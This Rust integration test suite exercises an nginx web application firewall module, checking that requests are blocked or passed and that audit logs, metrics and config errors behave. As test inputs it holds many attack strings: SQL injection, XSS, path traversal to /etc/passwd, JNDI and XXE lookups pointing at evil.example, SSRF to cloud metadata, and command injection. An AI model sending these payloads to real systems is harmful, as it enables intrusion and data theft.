//! Input filtering (WAF) against a real nginx.

mod support;

use support::{assert_config_error, echo_upstream, http_get, http_raw, http_request, Nginx};

fn waf_nginx(upstream: u16, extra: &str) -> Nginx {
    Nginx::builder()
        .var("UPSTREAM", upstream)
        .var("PORT2", support::free_port())
        .http(&format!(
            r#"
        shield_filter on;
        shield_filter_audit_log %%TMP%%/audit.log;
        log_format waf "$uri $status $shield_filter_status $shield_filter_score $shield_filter_rules";
        access_log %%TMP%%/waf.log waf;
        {extra}
        server {{
            listen 127.0.0.1:%%PORT%%;
            root %%HTML%%;
            location / {{ }}
            location /api/ {{ proxy_pass http://127.0.0.1:%%UPSTREAM%%; }}
            location /ret {{ return 200 "returned\n"; }}
            location /detect/ {{ alias %%HTML%%/; shield_filter detect; }}
            location /off/ {{ alias %%HTML%%/; shield_filter off; }}
            location /search/ {{ alias %%HTML%%/; shield_filter_exclude id=942100 target=args:q; }}
            location /custom/ {{
                alias %%HTML%%/;
                shield_filter_rule id=100001 pattern=forbidden-word targets=args "msg=house rule";
            }}
        }}"#
        ))
        .start()
}

#[test]
fn attacks_in_query_are_blocked_with_json_and_request_id() {
    let up = echo_upstream();
    let nginx = waf_nginx(up.port, "");
    assert_eq!(http_get(nginx.port, "/index.html?q=hello+world").status, 200);
    let r = http_get(nginx.port, "/index.html?q=1%27%20UNION%20SELECT%20password%20FROM%20users--");
    assert_eq!(r.status, 403);
    assert_eq!(r.header("Content-Type"), Some("application/json"));
    let body = r.body_str();
    assert!(body.contains("\"request blocked\""), "{body}");
    let id = body.split("\"request_id\":\"").nth(1).unwrap().split('"').next().unwrap();
    assert_eq!(id.len(), 32, "nginx's $request_id: {body}");
    for attack in [
        "/index.html?x=%3Cscript%3Ealert(1)%3C/script%3E",
        "/index.html?file=../../../../etc/passwd",
        "/index.html?cmd=;cat%20/etc/shadow",
        "/index.html?u=${jndi:ldap://x.example/a}",
        "/index.html?%3Cscript%3E=1",
    ] {
        assert_eq!(http_get(nginx.port, attack).status, 403, "{attack}");
    }
    // Audit log: one JSON line per detection, with the same request id and a masked fragment.
    let audit = nginx.wait_log("audit.log", 1);
    let first = audit.lines().next().unwrap();
    assert!(first.contains(&format!("\"request_id\":\"{id}\"")), "{first}");
    assert!(first.contains("\"id\":942100") && first.contains("\"target\":\"args:q\""), "{first}");
    assert!(first.contains("\"match\":\"union select\""), "{first}");
}

#[test]
fn a_location_that_returns_is_still_inspected() {
    let up = echo_upstream();
    let nginx = waf_nginx(up.port, "");
    assert_eq!(http_get(nginx.port, "/ret?q=fine").body_str(), "returned\n");
    assert_eq!(http_get(nginx.port, "/ret?q=%3Csvg/onload=alert(1)%3E").status, 403);
}

#[test]
fn post_bodies_are_inspected_and_benign_bodies_reach_the_upstream_intact() {
    let up = echo_upstream();
    let nginx = waf_nginx(up.port, "");
    let json = br#"{"user":{"name":"O'Brien","comment":"select the best option from the list"},"tags":["a","b"]}"#;
    let ok = http_request(nginx.port, "POST", "/api/items", &[("Content-Type", "application/json")], Some(json));
    assert_eq!(ok.status, 200);
    assert_eq!(ok.body, json.to_vec(), "the upstream got the body byte for byte");
    let requests = up.requests();
    assert_eq!(requests.last().unwrap().body, json.to_vec());

    let attack = br#"{"user":{"comment":"x' OR '1'='1"}}"#;
    let blocked = http_request(nginx.port, "POST", "/api/items", &[("Content-Type", "application/json")], Some(attack));
    assert_eq!(blocked.status, 403);
    assert!(!up.requests().iter().any(|r| r.body == attack.to_vec()), "a blocked body never reaches the upstream");

    let form = b"name=alice&bio=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    let r = http_request(
        nginx.port,
        "POST",
        "/api/form",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        Some(form),
    );
    assert_eq!(r.status, 403);
    let multipart =
        b"--b0undary\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n; cat /etc/passwd\r\n--b0undary--\r\n";
    let r = http_request(
        nginx.port,
        "POST",
        "/api/upload",
        &[("Content-Type", "multipart/form-data; boundary=b0undary")],
        Some(multipart),
    );
    assert_eq!(r.status, 403);

    // Larger than client_body_buffer_size: nginx buffers it to a temp file, still inspected.
    let mut big = format!("{{\"pad\":\"{}\",\"q\":\"", "a".repeat(40_000)).into_bytes();
    big.extend_from_slice(b"<script>alert(1)</script>\"}");
    let r = http_request(nginx.port, "POST", "/api/big", &[("Content-Type", "application/json")], Some(&big));
    assert_eq!(r.status, 403);
    let benign_big = format!("{{\"pad\":\"{}\"}}", "b".repeat(40_000)).into_bytes();
    let r = http_request(nginx.port, "POST", "/api/big", &[("Content-Type", "application/json")], Some(&benign_big));
    assert_eq!(r.status, 200);
    assert_eq!(r.body.len(), benign_big.len());
}

#[test]
fn cookies_and_headers_are_inspected() {
    let up = echo_upstream();
    let nginx = waf_nginx(up.port, "");
    let r = http_request(nginx.port, "GET", "/index.html", &[("Cookie", "sid=abc; pref=1' or '1'='1")], None);
    assert_eq!(r.status, 403);
    let r = http_request(nginx.port, "GET", "/index.html", &[("Referer", "http://x/<script>alert(1)</script>")], None);
    assert_eq!(r.status, 403);
    let r = http_request(nginx.port, "GET", "/index.html", &[("User-Agent", "sqlmap/1.7.2#stable")], None);
    assert_eq!(r.status, 403, "scanner user agent");
    let r = http_request(
        nginx.port,
        "GET",
        "/index.html",
        &[("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0")],
        None,
    );
    assert_eq!(r.status, 200);
}

#[test]
fn detect_mode_off_exclusions_and_custom_rules() {
    let up = echo_upstream();
    let nginx = waf_nginx(up.port, "");
    let attack = "q=1%27%20UNION%20SELECT%201";
    assert_eq!(http_get(nginx.port, &format!("/detect/index.html?{attack}")).status, 200, "detect lets it through");
    assert_eq!(http_get(nginx.port, &format!("/off/index.html?{attack}")).status, 200);
    // Excluding 942100 for q: "union select" alone passes; other rules on q still apply.
    assert_eq!(http_get(nginx.port, "/search/index.html?q=union%20select%20best").status, 200);
    assert_eq!(http_get(nginx.port, "/search/index.html?q=%3Cscript%3E").status, 403);
    assert_eq!(
        http_get(nginx.port, "/search/index.html?other=union%20select%201").status,
        403,
        "other args are not excluded"
    );
    assert_eq!(http_get(nginx.port, "/custom/index.html?x=a-forbidden-word").status, 403);
    assert_eq!(http_get(nginx.port, "/index.html?x=a-forbidden-word").status, 200, "custom rule is per location");

    let log = nginx.wait_log("waf.log", 7);
    let detect = log.lines().find(|l| l.starts_with("/detect/")).unwrap();
    assert!(detect.starts_with("/detect/index.html 200 DETECTED "), "{detect}");
    assert!(detect.contains("942100"), "{detect}");
    let blocked = log.lines().find(|l| l.contains(" 403 BLOCKED ")).unwrap();
    let score: u32 = blocked.split(' ').nth(3).unwrap().parse().unwrap();
    assert!(score >= 5, "{blocked}");
    assert!(log.lines().any(|l| l == "/index.html 200 PASSED 0 "), "{log:?}");
}

#[test]
fn hygiene_gives_defined_statuses() {
    let up = echo_upstream();
    let nginx = waf_nginx(
        up.port,
        "shield_filter_limits uri=200 args=5; shield_filter_methods GET HEAD POST; shield_filter_content_types application/json;",
    );
    assert_eq!(
        http_raw(nginx.port, b"GET /index.html?a=%zz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").status,
        400,
        "bad percent-encoding"
    );
    assert_eq!(
        http_raw(nginx.port, b"GET /index.html?a=%00 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").status,
        400,
        "NUL byte"
    );
    assert_eq!(http_get(nginx.port, &format!("/index.html?q={}", "a".repeat(300))).status, 414);
    assert_eq!(http_get(nginx.port, "/index.html?a=1&b=2&c=3&d=4&e=5&f=6").status, 403, "too many args");
    assert_eq!(http_request(nginx.port, "DELETE", "/index.html", &[], None).status, 405);
    let r = http_request(nginx.port, "POST", "/api/x", &[("Content-Type", "text/xml")], Some(b"<a/>"));
    assert_eq!(r.status, 415);
    assert_eq!(
        http_get(nginx.port, "/a/b/c/..%2f..%2fx").status,
        403,
        "encoded traversal in the path (nginx itself accepts it)"
    );
    assert_eq!(
        http_get(nginx.port, "/static/..%2f..%2f..%2fetc/passwd").status,
        400,
        "above the root: nginx refuses it first"
    );
    assert_eq!(http_get(nginx.port, "/index.html?%c0%ae%c0%ae/x=1").status, 403, "overlong traversal");
}

#[test]
fn ip_allow_and_deny_lists() {
    let up = echo_upstream();
    let allow = waf_nginx(up.port, "shield_filter_allow 127.0.0.0/8 ::1;");
    assert_eq!(http_get(allow.port, "/index.html?q=%3Cscript%3E").status, 200, "allowlisted client skips inspection");
    let deny = waf_nginx(up.port, "shield_filter_deny 10.0.0.0/8 127.0.0.1/32;");
    assert_eq!(http_get(deny.port, "/index.html").status, 403, "denied address");
}

#[test]
fn metrics_count_per_family() {
    let up = echo_upstream();
    let nginx = waf_nginx(
        up.port,
        "server { listen 127.0.0.1:%%METRICS%%; location / { shield_filter off; shield_status; } }"
            .replace("%%METRICS%%", &support::free_port().to_string())
            .as_str(),
    );
    let _ = nginx;
    let nginx = Nginx::start(
        r#"
        shield_filter on;
        server {
            listen 127.0.0.1:%%PORT%%;
            root %%HTML%%;
            location / { }
            location = /metrics { shield_filter off; shield_status; }
        }"#,
    );
    http_get(nginx.port, "/index.html?q=%3Cscript%3Ealert(1)%3C/script%3E");
    http_get(nginx.port, "/index.html?q=1%27%20or%201=1--");
    http_get(nginx.port, "/index.html?q=fine");
    let text = http_get(nginx.port, "/metrics").body_str().to_string();
    assert!(text.contains("shield_filter_requests_total{result=\"blocked\"} 2"), "{text}");
    assert!(text.contains("shield_filter_requests_total{result=\"passed\"} 1"), "{text}");
    assert!(
        text.lines().any(|l| l.starts_with("shield_filter_matches_total{family=\"xss\"} ") && !l.ends_with(" 0")),
        "{text}"
    );
}

#[test]
fn bad_filter_directives_fail_nginx_t() {
    let srv = "server { listen 127.0.0.1:%%PORT%%; }";
    let dir = support::TempDir::new();
    let bad_rules = dir.path().join("rules.json");
    std::fs::write(&bad_rules, r#"[{"id": 123456, "pattern": "(unclosed"}]"#).unwrap();
    let cases = [
        ("shield_filter maybe;".to_string(), "invalid value \"maybe\""),
        ("shield_filter_paranoia 7;".to_string(), "invalid paranoia \"7\", it must be between 1 and 4"),
        ("shield_filter_status 200;".to_string(), "between 400 and 599"),
        ("shield_filter_rule id=5 pattern=(oops;".to_string(), "rule 5"),
        ("shield_filter_rule pattern=x;".to_string(), "must have \"id\" parameter"),
        (format!("shield_filter_rules_file {};", bad_rules.display()), "rule 123456"),
        ("shield_filter_rules_file /nonexistent/rules.json;".to_string(), "cannot read"),
        ("shield_filter_exclude bogus=1;".to_string(), "invalid parameter"),
        ("shield_filter_allow 10.0.0.0/33;".to_string(), "invalid address"),
        ("shield_filter_limits uri=big;".to_string(), "invalid parameter"),
        ("shield_filter_inspect_headers all X-Foo;".to_string(), "\"all\" cannot be combined with header names"),
    ];
    for (directive, expected) in cases {
        assert_config_error(&format!("{directive} {srv}"), expected);
    }
}

/// Two locations whose custom rules share an id but not a pattern: each runs its own rule.
/// (The engine cache was keyed by the rule ids: /b/ ran /a/'s rule.)
#[test]
fn locations_with_same_rule_id_and_different_patterns_get_their_own_rule() {
    let nginx = Nginx::start(
        r#"
        shield_filter on;
        server {
            listen 127.0.0.1:%%PORT%%;
            root %%HTML%%;
            location /a/ { alias %%HTML%%/; shield_filter_rule id=100001 pattern=alpha-word targets=args; }
            location /b/ { alias %%HTML%%/; shield_filter_rule id=100001 pattern=beta-word targets=args; }
        }"#,
    );
    assert_eq!(http_get(nginx.port, "/a/index.html?x=alpha-word").status, 403);
    assert_eq!(http_get(nginx.port, "/a/index.html?x=beta-word").status, 200);
    assert_eq!(http_get(nginx.port, "/b/index.html?x=beta-word").status, 403, "/b/'s own pattern");
    assert_eq!(http_get(nginx.port, "/b/index.html?x=alpha-word").status, 200, "not /a/'s pattern");
}

/// Plain words that built-in rules match were skipped by a hand-written fast path at every
/// paranoia level; the fast path is now derived from the rules.
#[test]
fn plain_word_attacks_are_blocked_and_plain_benign_values_pass() {
    let up = echo_upstream();
    let nginx = Nginx::builder()
        .var("UPSTREAM", up.port)
        .http(
            r#"
        shield_filter on;
        server {
            listen 127.0.0.1:%%PORT%%;
            location / { proxy_pass http://127.0.0.1:%%UPSTREAM%%; }
            location /p4/ { shield_filter_paranoia 4; proxy_pass http://127.0.0.1:%%UPSTREAM%%; }
        }"#,
        )
        .start();
    let json = [("Content-Type", "application/json")];
    for prefix in ["/api", "/p4/api"] {
        for body in [
            &br#"{"__proto__":{"isAdmin":true}}"#[..],
            br#"{"constructor":{"prototype":{"isAdmin":true}}}"#,
            br#"{"a":{"constructor.prototype.isAdmin":1}}"#,
        ] {
            let r = http_request(nginx.port, "POST", &format!("{prefix}/items"), &json, Some(body));
            assert_eq!(r.status, 403, "{prefix}: {}", String::from_utf8_lossy(body));
        }
        for query in ["t=information_schema", "t=pg_catalog", "__proto__=1", "cmd=whoami"] {
            assert_eq!(http_get(nginx.port, &format!("{prefix}/x?{query}")).status, 403, "{prefix}?{query}");
        }
        for query in ["t=hello_world-42", "id=550e8400-e29b-41d4-a716-446655440000", "sort=price", "q=prototype"] {
            assert_eq!(http_get(nginx.port, &format!("{prefix}/x?{query}")).status, 200, "{prefix}?{query}");
        }
        let r = http_request(
            nginx.port,
            "POST",
            &format!("{prefix}/items"),
            &json,
            Some(br#"{"name":"constructor","kind":"prototype","n":1}"#),
        );
        assert_eq!(r.status, 200, "{prefix}");
    }
}

/// The default limits refuse nothing stock nginx accepts: a 7 KB query (its request line limit
/// is 8k) with 300 arguments and a 300-byte argument name passes (it was 414).
#[test]
fn default_limits_accept_what_nginx_accepts() {
    let nginx = Nginx::start("shield_filter on; server { listen 127.0.0.1:%%PORT%%; root %%HTML%%; location / { } }");
    let mut query = format!("q={}", "lorem+ipsum+dolor+sit+amet+".repeat(175));
    for i in 0..300 {
        query.push_str(&format!("&a{i}=v"));
    }
    query.push_str(&format!("&{}=1", "n".repeat(300)));
    assert!((7000..8000).contains(&query.len()), "{}", query.len());
    assert_eq!(http_get(nginx.port, &format!("/index.html?{query}")).status, 200);
    let headers: Vec<(String, String)> = (0..150).map(|i| (format!("X-Custom-{i}"), "v".to_string())).collect();
    let headers: Vec<(&str, &str)> = headers.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    assert_eq!(http_request(nginx.port, "GET", "/index.html", &headers, None).status, 200, "150 headers");
}

#[test]
fn filter_numbers_are_range_checked_and_rules_file_errors_name_the_rule_line() {
    let srv = "server { listen 127.0.0.1:%%PORT%%; }";
    let dir = support::TempDir::new();
    let rules = dir.path().join("rules.json");
    std::fs::write(&rules, "[\n  {\"id\": 100001, \"pattern\": \"a\"},\n  {\"id\": 100002, \"pattern\": \"b\",\n   \"paranoia\": 257}\n]\n").unwrap();
    let bad_pattern = dir.path().join("bad.json");
    std::fs::write(&bad_pattern, "[\n\n  {\"id\": 123456, \"pattern\": \"(unclosed\"}\n]\n").unwrap();
    let cases = [
        (
            "shield_filter_rule id=5 pattern=x paranoia=257;".to_string(),
            "invalid paranoia \"257\", it must be between 1 and 4".to_string(),
        ),
        (
            "shield_filter_rule id=5 pattern=x score=100000;".to_string(),
            "invalid score \"100000\", it must be between 0 and 9999".to_string(),
        ),
        ("shield_filter_rule id=99999999999 pattern=x;".to_string(), "invalid id \"99999999999\"".to_string()),
        (
            format!("shield_filter_rules_file {};", rules.display()),
            format!("invalid paranoia \"257\", it must be between 1 and 4 in {}:3", rules.display()),
        ),
        (format!("shield_filter_rules_file {};", bad_pattern.display()), format!("in {}:3", bad_pattern.display())),
        (
            "shield_filter_threshold 10000;".to_string(),
            "invalid threshold \"10000\", it must be between 1 and 9999".to_string(),
        ),
        ("shield_filter_paranoia 257;".to_string(), "invalid paranoia \"257\"".to_string()),
        (
            "shield_filter_limits args=0;".to_string(),
            "invalid args \"0\", it must be between 1 and 1000000".to_string(),
        ),
        ("shield_filter_limits uri=1g;".to_string(), "invalid uri \"1g\"".to_string()),
        ("shield_filter_exclude id=4294967296;".to_string(), "invalid id \"4294967296\"".to_string()),
    ];
    for (directive, expected) in cases {
        assert_config_error(&format!("{directive} {srv}"), &expected);
    }
}

/// The audit log is opened by the master (like access_log): workers that cannot create files
/// where it lives still write to it. (Workers opened it themselves: "Permission denied".)
#[test]
fn audit_log_is_opened_by_the_master_for_unprivileged_workers() {
    if !support::is_root() {
        eprintln!("not root: workers already run as the invoking user, nothing to show");
        return;
    }
    let nginx = Nginx::builder()
        .main_conf("user nobody nogroup;")
        .worker_processes(1)
        .http(
            r#"
        shield_filter on;
        shield_filter_audit_log %%TMP%%/audit.log;
        server { listen 127.0.0.1:%%PORT%%; location / { return 200 "ok\n"; } }"#,
        )
        .start();
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(nginx.dir.path()).unwrap().permissions().mode();
    assert_eq!(mode & 0o002, 0, "the prefix dir is root's: nobody cannot create files in it");
    assert_eq!(http_get(nginx.port, "/x?q=%3Cscript%3Ealert(1)%3C/script%3E").status, 403);
    let audit = nginx.wait_log("audit.log", 1);
    assert!(audit.contains("\"id\":941100"), "{audit:?}\n{}", nginx.error_log());
    assert!(!nginx.error_log().contains("audit"), "{}", nginx.error_log());
}

/// `nginx -s reopen` after the audit log was renamed (log rotation): new lines go to a new
/// file. (Workers kept writing to the renamed file.)
#[test]
fn audit_log_is_reopened_on_usr1() {
    let nginx = Nginx::builder()
        .worker_processes(1)
        .http(
            r#"
        shield_filter on;
        shield_filter_audit_log %%TMP%%/audit.log;
        server { listen 127.0.0.1:%%PORT%%; location / { return 200 "ok\n"; } }"#,
        )
        .start();
    assert_eq!(http_get(nginx.port, "/x?q=1%27%20UNION%20SELECT%201--").status, 403);
    assert_eq!(nginx.wait_log("audit.log", 1).lines().count(), 1);
    std::fs::rename(nginx.dir.path().join("audit.log"), nginx.dir.path().join("audit.log.1")).unwrap();
    nginx.reopen(1);
    assert_eq!(http_get(nginx.port, "/x?q=%3Cscript%3Ealert(1)%3C/script%3E").status, 403);
    let fresh = nginx.wait_log("audit.log", 1);
    assert_eq!(fresh.lines().count(), 1, "{fresh:?}");
    assert!(fresh.contains("941100"), "{fresh}");
    let rotated = std::fs::read_to_string(nginx.dir.path().join("audit.log.1")).unwrap();
    assert_eq!(rotated.lines().count(), 1, "the rotated file got nothing new: {rotated}");
}

/// A worker's resident memory (kB): ("VmRSS", "VmHWM") from /proc.
fn worker_memory(nginx: &Nginx) -> (u64, u64) {
    let master: u32 = std::fs::read_to_string(nginx.dir.path().join("nginx.pid")).unwrap().trim().parse().unwrap();
    let worker = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| e.file_name().to_str().and_then(|n| n.parse::<u32>().ok()))
        .find(|pid| {
            let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
            // pid (comm) state ppid ...
            stat.rsplit_once(") ").and_then(|(_, rest)| rest.split(' ').nth(1)).and_then(|p| p.parse::<u32>().ok())
                == Some(master)
        })
        .expect("worker process");
    let status = std::fs::read_to_string(format!("/proc/{worker}/status")).unwrap();
    let kb = |key: &str| -> u64 {
        let line = status.lines().find(|l| l.starts_with(key)).unwrap();
        line.split_whitespace().nth(1).unwrap().parse().unwrap()
    };
    (kb("VmRSS:"), kb("VmHWM:"))
}

/// Inspecting an ~8 MB JSON body keeps the worker's peak memory growth within 3x the body
/// (+ 8 MB for the engine's automata caches and allocator slack). It was ~14x.
#[test]
fn inspecting_a_large_json_body_costs_at_most_three_times_its_size() {
    let up = echo_upstream();
    let nginx = Nginx::builder()
        .var("UPSTREAM", up.port)
        .worker_processes(1)
        .http(
            r#"
        shield_filter on;
        client_max_body_size 16m;
        shield_filter_limits body=16m;
        server { listen 127.0.0.1:%%PORT%%; location / { return 200 "ok\n"; } }"#,
        )
        .start();
    let json = [("Content-Type", "application/json")];
    // Many small fields, escaped strings, nesting, and one large value: every shape at once.
    let mut body = String::from("{\"items\":[");
    let mut i = 0;
    while body.len() < 6 << 20 {
        body.push_str(&format!(
            "{{\"id\":{i},\"name\":\"item {i}\",\"tags\":[\"a\",\"b\\u0027c\"],\"note\":\"O\\\"Brien's \\n list\"}},"
        ));
        i += 1;
    }
    body.push_str(&format!("{{}}],\"blob\":\"{}\"}}", "Lorem ipsum dolor sit amet. ".repeat(75_000)));
    let body = body.into_bytes();
    assert!((7 << 20..9 << 20).contains(&body.len()), "{}", body.len());
    // Warm up: the engine's automata caches fill on the first requests.
    let small = br#"{"a":"hello world","b":["x","y"]}"#;
    for _ in 0..3 {
        assert_eq!(http_request(nginx.port, "POST", "/x", &json, Some(small)).status, 200);
    }
    let (rss_before, _) = worker_memory(&nginx);
    let r = http_request(nginx.port, "POST", "/x", &json, Some(&body));
    assert_eq!(r.status, 200, "a benign body passes");
    let (_, peak) = worker_memory(&nginx);
    let growth = peak.saturating_sub(rss_before) * 1024;
    println!("worker peak growth {} kB for a {} kB body", growth >> 10, body.len() >> 10);
    let bound = 3 * body.len() as u64 + (8 << 20);
    assert!(
        growth <= bound,
        "worker peak grew by {} MB for a {} MB body (bound {} MB)",
        growth >> 20,
        body.len() >> 20,
        bound >> 20
    );
    // The same body with an attack at its very end is still blocked: nothing is skipped.
    let mut attack = body[..body.len() - 2].to_vec();
    attack.extend_from_slice(br#"","q":"x' OR '1'='1"}"#);
    assert_eq!(http_request(nginx.port, "POST", "/x", &json, Some(&attack)).status, 403);
}

/// Every request header is inspected (but the noise ones), cookie names too; a location can
/// narrow the list again.
#[test]
fn any_header_content_type_and_cookie_names_are_inspected() {
    let up = echo_upstream();
    let nginx = waf_nginx(
        up.port,
        r#"server {
            listen 127.0.0.1:%%PORT2%%;
            root %%HTML%%;
            location / { shield_filter_inspect_headers User-Agent; }
        }"#,
    );
    let get = |port: u16, headers: &[(&str, &str)]| http_request(port, "GET", "/index.html", headers, None).status;
    assert_eq!(get(nginx.port, &[("X-Foo", "${jndi:ldap://evil.example/a}")]), 403, "a custom header");
    assert_eq!(get(nginx.port, &[("X-Foo", "1' UNION SELECT password FROM users--")]), 403);
    assert_eq!(get(nginx.port, &[("Cookie", "theme=dark; <script>alert(1)</script>=1")]), 403, "a cookie name");
    let post =
        |headers: &[(&str, &str)]| http_request(nginx.port, "POST", "/api/items", headers, Some(&b"a=1"[..])).status;
    assert_eq!(post(&[("Content-Type", "application/x-www-form-urlencoded;<script>alert(1)</script>")]), 403);
    assert_eq!(post(&[("Content-Type", "text/plain' UNION SELECT 1,2--")]), 403, "Content-Type");
    // A browser's ordinary headers pass, noise ones included.
    let browser = [
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        ),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", "en-US,en;q=0.9"),
        ("Accept-Encoding", "gzip, deflate, br"),
        ("sec-ch-ua", "\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\""),
        ("Sec-Fetch-Site", "same-origin"),
        ("If-None-Match", "W/\"5e1-abc\""),
        ("Origin", "http://localhost:3000"),
        ("Referer", "http://localhost:3000/cart?step=2"),
        ("X-Requested-With", "XMLHttpRequest"),
        ("Authorization", "Basic Li4vZXRjL3Bhc3N3ZA=="),
        ("Cookie", "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark"),
    ];
    assert_eq!(get(nginx.port, &browser), 200);
    assert_eq!(post(&[("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8")]), 200);
    let audit = nginx.wait_log("audit.log", 5);
    assert!(audit.contains("\"target\":\"header:x-foo\""), "{audit}");
    assert!(audit.contains("\"target\":\"cookies_names:"), "{audit}");
    assert!(audit.contains("\"target\":\"header:content-type\""), "{audit}");
    assert_eq!(audit.lines().count(), 5, "the browser's headers matched nothing: {audit}");
    // shield_filter_inspect_headers narrows the list: X-Foo is not inspected there.
    let narrow = nginx.var_port("PORT2");
    assert_eq!(get(narrow, &[("X-Foo", "${jndi:ldap://evil.example/a}")]), 200);
    assert_eq!(get(narrow, &[("User-Agent", "${jndi:ldap://evil.example/a}")]), 403);
}

#[test]
fn xml_bodies_are_inspected() {
    let up = echo_upstream();
    let nginx = waf_nginx(up.port, "");
    let post =
        |ct: &str, body: &[u8]| http_request(nginx.port, "POST", "/api/items", &[("Content-Type", ct)], Some(body));
    let benign = br#"<?xml version="1.0"?><order id="42"><name>Jane O'Brien</name><note>Great product!</note></order>"#;
    let r = post("application/xml", benign);
    assert_eq!(r.status, 200);
    assert_eq!(r.body, benign.to_vec(), "the upstream got the body intact");
    for (ct, body) in [
        ("application/xml", &b"<order><id>1' UNION SELECT password FROM users--</id></order>"[..]),
        ("text/xml; charset=utf-8", br#"<order note="&lt;script&gt;alert(1)&lt;/script&gt;"/>"#),
        ("application/soap+xml", br#"<a href="javascript:alert(1)">x</a>"#),
        ("application/xml", br#"<!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/x.dtd">]><r>&x;</r>"#),
    ] {
        assert_eq!(post(ct, body).status, 403, "{}", String::from_utf8_lossy(body));
    }
    let audit = nginx.wait_log("audit.log", 4);
    assert!(audit.contains("\"target\":\"body:id\"") && audit.contains("\"target\":\"body:note\""), "{audit}");
}

#[test]
fn new_families_and_paranoia_2_through_nginx() {
    let up = echo_upstream();
    let nginx = waf_nginx(
        up.port,
        r#"server {
            listen 127.0.0.1:%%PORT2%%;
            root %%HTML%%;
            location / { shield_filter_paranoia 2; }
        }"#,
    );
    let status = |port: u16, uri: &str| http_get(port, uri).status;
    for attack in [
        "/index.html?url=http://169.254.169.254/latest/meta-data/",
        "/index.html?url=http://127.0.0.1:6379/",
        "/index.html?url=gopher://evil.example/_x",
        "/index.html?c=cmd.exe%20/c%20whoami",
        "/index.html?c=x%20%26%26%20dir%20c:%5C",
        "/index.html?p=powershell%20-enc%20SQBFAFgA",
        "/index.html?d=_$$ND_FUNC$$_function(){}()",
        "/index.html?x=%5Cu003cscript%5Cu003ealert(1)",
        "/index.html?next=/home;jsessionid=ABCDEF123456",
        "/index.html?PHPSESSID=attacker",
        "/index.html?laravel_session=eyJpdiI6IktmYw",
    ] {
        assert_eq!(status(nginx.port, attack), 403, "{attack}");
    }
    // A session-id argument from another site's page is blocked, from the site's own page not
    // (the test client sends Host: localhost).
    let from = |referer: &str| {
        http_request(nginx.port, "GET", "/index.html?PHPSESSID=abc123", &[("Referer", referer)], None).status
    };
    assert_eq!(from("https://evil.example/phish"), 403);
    assert_eq!(from("https://localhost.evil.example/"), 403);
    assert_eq!(from("http://localhost/shop?page=2"), 200);
    // Benign lookalikes pass at paranoia 1.
    for benign in ["/index.html?url=https://example.com/", "/index.html?q=Tom+%26+Jerry", "/index.html?q=select+a+size"]
    {
        assert_eq!(status(nginx.port, benign), 200, "{benign}");
    }
    // What only a paranoia-2 rule catches: passes at 1, blocked at 2.
    for pl2 in [
        "/index.html?q=select%20password%20from%20users",
        "/index.html?url=http://10.0.0.5/admin",
        "/index.html?u=http://93.184.216.34/shell.txt",
    ] {
        assert_eq!(status(nginx.port, pl2), 200, "PL1 {pl2}");
        assert_eq!(status(nginx.var_port("PORT2"), pl2), 403, "PL2 {pl2}");
    }
}
